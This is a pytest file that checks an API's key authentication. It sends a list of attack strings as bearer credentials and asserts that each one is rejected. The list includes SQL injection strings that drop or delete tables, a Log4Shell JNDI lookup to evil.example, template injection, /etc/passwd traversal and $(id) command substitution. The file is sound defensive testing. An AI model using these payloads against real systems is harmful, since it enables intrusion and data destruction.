"""Credentials that are attacks: each is a wrong key, and changes nothing."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest

from famulus.testing import TestServer, kernel_with

pytestmark = pytest.mark.anyio

PAYLOADS = [
    "' or '1'='1",
    "' or 1=1 --",
    '" or ""="',
    "'; drop table records; --",
    "'; delete from records where kind='api_key'; --",
    "x' union select * from records --",
    "\\'; select pg_sleep(10); --",
    "1; attach database '/tmp/x' as y",
    "%' or token like '%",
    "sk-fam-%",
    "sk-fam-" + "_" * 33,
    "sk-fam-" + "0" * 33,
    "sk-fam-' or hash like '%00000000000000000",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "$(id)",
    "\xff\xfe" * 20,
    "a" * 50_000,
    "null",
    "undefined",
    "[object Object]",
]


@pytest.fixture
async def server() -> AsyncIterator[TestServer]:
    async with kernel_with("sqlite", "keys", settings={"keys": {"first_key": False}}) as started:
        yield started


async def status(server: TestServer, credential: str) -> int:
    headers = {"authorization": f"Bearer {credential}".encode("latin-1")}
    return (await server.get("/-/plugins", headers=headers)).status_code


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda each: each[:20])
async def test_an_attack_is_a_wrong_key_and_changes_nothing(
    server: TestServer, payload: str
) -> None:
    _, good = await server.plugin("keys").create()
    assert await status(server, payload) == 401
    # In the middle of what looks like one of ours, too.
    assert await status(server, good[:20] + payload + good[20:]) == 401
    assert await status(server, good) != 401
